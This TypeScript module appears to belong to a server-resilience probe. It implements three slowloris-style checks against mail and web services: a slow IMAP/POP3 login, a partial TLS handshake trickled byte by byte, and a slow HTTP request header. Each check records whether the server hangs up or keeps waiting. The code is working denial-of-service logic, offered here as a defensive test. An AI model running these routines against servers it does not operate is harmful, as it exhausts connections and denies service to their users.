/** Senders that take their time: each of them holds a place, and has to lose it. */
import type { Visit } from "../../probe.ts";
import { broken, held, lost, type At, type Attack, type Outcome } from "../contract.ts";
import { ATTACK_LIMITS } from "../limits.ts";
import { bare, secured } from "../talk.ts";

/** Says `first`, then an octet a second, until the server hangs up or the time is over. */
async function trickle(
  at: At,
  visit: Visit,
  first: string,
  octet: string,
  longest_ms: number,
): Promise<Outcome> {
  const began_ms = at.net.clock.now();
  let octets = first;
  for (let said = 0; ; said++) {
    const { input, end } = await visit.exchange(
      Buffer.from(octets, "latin1"),
      () => false,
      ATTACK_LIMITS.trickle_ms,
    );
    const waited_s = Math.round((at.net.clock.now() - began_ms) / 1_000);
    // That is no patience that ended: nobody knows what it would have borne.
    if (end === "closed" && said === 0) return lost("it hung up at once");
    if (end === "closed") {
      const last = input.toString("latin1").trim().split("\r\n").at(-1) ?? "";
      return held(`it hung up after ${waited_s} s${last === "" || last.length > 80 ? "" : `: ${last}`}`);
    }
    if (at.net.clock.now() - began_ms > longest_ms) return broken(`it still waits after ${waited_s} s`);
    octets = octet;
  }
}

const login: Attack = {
  check: "slow-login",
  doors: ["imaps", "pop3s"],
  weight: "slow",
  needs: "nothing",
  run: (at) =>
    secured(at, async (visit) => {
      const greeting = await visit.line();
      return greeting.ok
        ? trickle(
            at,
            visit,
            at.host.service === "imaps" ? "k1 LOGIN " : "USER ",
            "x",
            ATTACK_LIMITS.slowLogin_ms,
          )
        : lost(greeting.error);
    }),
};

/** The beginning of a ClientHello that says it has 400 octets. */
const HELLO_BEGUN = "\x16\x03\x01\x01\x90\x01\x00\x01\x8c\x03\x03";

const handshake: Attack = {
  check: "slow-handshake",
  doors: ["submissions", "imaps", "pop3s", "web"],
  weight: "slow",
  needs: "nothing",
  run: (at) => bare(at, (visit) => trickle(at, visit, HELLO_BEGUN, "\0", ATTACK_LIMITS.slowHandshake_ms)),
};

const request: Attack = {
  check: "slow-request",
  doors: ["web"],
  weight: "slow",
  needs: "nothing",
  run: (at) =>
    secured(at, (visit) =>
      trickle(at, visit, "GET / HTTP/1.1\r\nHost: x\r\nX-Slow: ", "x", ATTACK_LIMITS.slowRequest_ms),
    ),
};

export const SLOW_ATTACKS: readonly Attack[] = [login, handshake, request];
